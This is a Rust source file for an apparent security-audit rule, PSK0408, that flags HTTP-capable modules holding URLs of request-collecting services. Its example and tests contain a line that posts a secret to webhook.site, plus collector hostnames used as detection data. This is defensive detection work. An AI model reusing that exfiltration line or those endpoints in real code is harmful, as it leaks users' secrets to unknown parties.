//! A module that can send HTTP holds the URL of a service that only collects requests.

use crate::audit::Severity;
use crate::audit::rules::sink::Sink;
use crate::audit::rules::{Example, Rule};
use crate::audit::subject::Subject;

use super::report::{Meaning, host_hits, report};

pub(in crate::audit) const RULE: Rule = Rule {
    id: "PSK0408",
    name: "exfiltration-endpoint",
    severity: Severity::High,
    description: "A module that can send HTTP holds the URL of a service that only collects requests.",
    why: "Such an address shows whatever is sent to it to its owner, whom nobody knows; no product runs on one. In code that can send, it is how data leaves.",
    remedy: "Remove the URL. If it is left over from a test, take it out of the source; if you did not write it, do not run the skill, and look where it came from.",
    ast: &["AST01"],
    cwe: &[200, 506],
    example: Example {
        bad: r#"# src/lib.rs
post("https://webhook.site/1f0c…", secret);"#,
        fixed: r#"# src/lib.rs
post("https://api.acme.io/v1/events", event);"#,
    },
    check,
};

fn check(subject: &Subject<'_>, sink: &mut Sink<'_>) {
    for (hit, meaning) in host_hits(subject) {
        if let Meaning::Endpoint(service) = meaning {
            let say = |host: &str, place: &str| {
                format!(
                    "{place} can send HTTP and holds a URL of {host}, {}",
                    service.describe()
                )
            };
            report(subject, sink, hit, say);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::audit::testing::*;

    const HTTP: &str = r#"(component (import "wasi:http/outgoing-handler@0.2.3" (instance (export "f" (func))))
        (core module (memory 1) (data (i32.const 0) "DATA")))"#;
    const ALLOW: &str = "[capabilities]\nhttp_egress_allowlist = [\"api.acme.io\"]\n";

    fn found(module: &str, data: &str) -> usize {
        let module = module.replace("DATA", data);
        project(ALLOW, &[("modules/a.wasm", &module)])
            .findings("PSK0408")
            .len()
    }

    const PLAIN: &str = r#"(module (memory 1) (data (i32.const 0) "DATA"))"#;

    #[test]
    fn a_collector_is_found() {
        assert_eq!(found(HTTP, "https://webhook.site/1f0c"), 1);
        assert_eq!(found(HTTP, "https://c8x.oast.pro"), 1);
    }

    #[test]
    fn without_http_and_for_other_hosts_it_is_silent() {
        assert_eq!(found(PLAIN, "https://webhook.site/1f0c"), 0);
        assert_eq!(found(HTTP, "https://notwebhook.site/"), 0);
    }
}
